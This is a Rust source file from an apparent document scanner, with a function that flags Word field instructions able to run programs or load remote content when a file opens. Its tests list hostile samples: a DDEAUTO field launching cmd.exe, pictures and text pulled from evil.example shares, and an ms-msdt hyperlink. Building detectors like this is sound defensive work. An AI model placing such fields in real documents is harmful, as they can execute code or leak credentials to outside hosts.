//! Instructions of Word fields, in DOCX, DOC and RTF alike: the text between the start of a field
//! and its separator. Facts: ECMA-376 part 1, 17.16.5 (field definitions); MS-DOC 2.9.90.

use super::place::{Place, is_dangerous_link};

/// Maximum number of instruction bytes kept: a field's name and target come first.
pub(super) const INSTRUCTION_MAX: usize = 2048;

/// Whether a field starts a program or loads external content when the document opens. Web pictures
/// and links are allowed.
pub(super) fn is_harmful(instruction: &str) -> bool {
    let mut words = instruction.split(|c: char| c.is_whitespace() || c == '"' || c == '\u{201D}');
    let mut words = words.by_ref().filter(|word| !word.is_empty());
    let Some(name) = words.next() else { return false };
    let mut places = words.map(|word| (word, Place::of(word)));
    match name.to_ascii_uppercase().as_str() {
        "DDE" | "DDEAUTO" => true,
        "INCLUDEPICTURE" => places.any(|(_, place)| place == Place::Share),
        "INCLUDETEXT" | "INCLUDE" | "IMPORT" | "LINK" | "RD" => {
            places.any(|(_, place)| place != Place::Local)
        }
        "HYPERLINK" => places.any(|(word, _)| is_dangerous_link(word)),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::is_harmful;

    #[test]
    fn harmful_and_harmless_fields_are_distinguished() {
        let harmful = [
            r"DDEAUTO c:\\windows\\system32\\cmd.exe",
            " ddeauto excel x",
            "\tDDE  excel",
            r#"INCLUDEPICTURE "\\\\evil.example\\share\\a.png" \d"#,
            r#"INCLUDEPICTURE "file://evil.example/a.png""#,
            r#"INCLUDETEXT "https://evil.example/a.docx""#,
            r"LINK Excel.Sheet.8 \\\\evil\\a.xls",
            r#"HYPERLINK "ms-msdt:/id""#,
        ];
        for instruction in harmful {
            assert!(is_harmful(instruction), "{instruction}");
        }
        let fine = [
            "",
            "PAGE",
            "DATE \\@ DDE",
            r#"HYPERLINK "https://example.org" \o "DDEAUTO""#,
            r#"INCLUDEPICTURE "https://example.org/me.png" \* MERGEFORMATINET"#,
            r#"INCLUDEPICTURE "C:\\me.png""#,
            r"LINK Excel.Sheet.8 C:\\a.xls",
            "MERGEFIELD Name",
        ];
        for instruction in fine {
            assert!(!is_harmful(instruction), "{instruction}");
        }
    }
}
